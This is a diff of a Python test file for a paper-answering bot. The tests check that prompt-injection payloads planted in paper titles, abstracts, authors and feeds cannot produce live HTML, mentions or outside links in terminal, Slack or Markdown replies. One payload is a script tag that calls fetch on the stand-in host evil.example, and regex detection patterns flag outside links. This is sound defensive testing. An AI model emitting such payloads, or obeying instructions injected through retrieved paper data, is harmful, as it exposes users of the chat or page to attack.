@@ -6,6 +6,7 @@ a control or invisible character, a secret, the system prompt, a source that was
 
 from __future__ import annotations
 
+import html
 import io
 import json
 import re
@@ -18,15 +19,17 @@ from typing import Any
 
 import pytest
 from conftest import SHARED, Run, three_papers
+from markdown_it import MarkdownIt
 from rich.console import Console
+from slack_payloads import text_objects
 
 from bot.ask import ask
 from bot.documents import answer_document, tldr_document
 from bot.models.protocol import Completion, Prompt
-from bot.render import terminal
-from bot.replies import answer_reply, paper_reply, tldr_reply
+from bot.render import markdown, slack, terminal
+from bot.replies import answer_reply, paper_reply, papers_reply, tldr_reply
 from bot.tldr import TldrMaker
-from bot.types import Usage
+from bot.types import Reply, Usage
 from prompts import load
 from retrieval.archive import Archive
 from retrieval.embed import HashingEmbedder
@@ -61,6 +64,8 @@ PAYLOADS = (
     "<script>fetch('https://evil.example')</script> renders the results of this work.",
 )
 CARRIERS = ("title", "abstract", "author", "organization", "ai_summary", "keyword", "question", "feed")
+GITHUB = MarkdownIt("gfm-like")
+STORED = re.compile(r"https://(?:huggingface\.co/papers|arxiv\.org/abs)/[^\s<>|]+$")
 LIVE = (
     re.compile(r"<[!@#]"),
     re.compile(r"[a-z]+://(?!huggingface\.co/papers/|arxiv\.org/abs/)", re.IGNORECASE),
@@ -134,6 +139,37 @@ def shown(reply: Any) -> str:
     return out.getvalue()
 
 
+def slack_leaks(reply: Reply) -> list[str]:
+    """What a reply would make live in Slack: anything but literal text and links to the stored papers."""
+    found = []
+    for message in [*slack.messages(reply, quotes=True), slack.line(reply.title or "…")]:
+        texts = [*text_objects(message.blocks), {"type": "plain_text", "text": message.text, "emoji": False}]
+        for part in texts:
+            text = part["text"]
+            if part["type"] == "mrkdwn":
+                link = re.fullmatch(r"<([^|<>\s]+)\|([^<>*_~`]+)>", text)
+                found += [] if link and part["verbatim"] and STORED.match(link[1]) else [text]
+                text = link[2] if link else text
+            elif part["emoji"] or re.search(r"[<>]|&(?!(?:amp|lt|gt);)", text):
+                found.append(text)
+            found += escapes(html.unescape(text))
+    return found
+
+
+def markdown_leaks(reply: Reply) -> list[str]:
+    """What a reply would make live on a Markdown page, read by a parser nobody here wrote."""
+    found = []
+    for block in GITHUB.parse(markdown.page(reply)):
+        for token in [block, *(block.children or ())]:
+            if token.type in ("html_block", "html_inline", "image", "fence", "code_block", "em_open", "strong_open"):
+                found.append(token.content or token.type)
+            elif token.type == "link_open" and not STORED.match(str(token.attrs["href"])):
+                found.append(str(token.attrs["href"]))
+            elif token.type in ("text", "code_inline"):
+                found += escapes(token.content)
+    return found
+
+
 def escapes(text: str) -> list[str]:
     return [pattern.pattern for pattern in LIVE if pattern.search(text)]
 
@@ -155,7 +191,7 @@ def attacks() -> list[tuple[str, str]]:
 
 
 def test_no_injection_escapes(archive: Archive, secrets: None) -> None:
-    """Through every carrier, with a model that obeys: nothing live on the terminal, in claims or in TL;DRs."""
+    """Through every carrier, with a model that obeys: nothing live on any surface, in claims or in TL;DRs."""
     store, embedder, count = VectorStore(archive.database), HashingEmbedder(), 0
     for carrier, payload in attacks():
         with archive.database.write() as db:
@@ -175,10 +211,17 @@ def test_no_injection_escapes(archive: Archive, secrets: None) -> None:
             ).lines(archive.list())
         )
         document = answer_document(replace(answer, question=""))
+        replies = [
+            answer_reply(answer, date(2026, 11, 22)),
+            tldr_reply([made]),
+            papers_reply(archive.list(), payload, {archive.list()[0].id: payload}),
+            paper_reply(archive.list()[0]),
+        ]
+        for reply in replies:
+            assert not slack_leaks(reply), (carrier, payload)
+            assert not markdown_leaks(reply), (carrier, payload)
         texts = [
-            shown(answer_reply(answer, date(2026, 11, 22))),
-            shown(tldr_reply([made])),
-            shown(paper_reply(archive.list()[0])),
+            *map(shown, replies),
             *(claim["text"] for claim in document["claims"]),
             tldr_document(made)["tldr"],
         ]
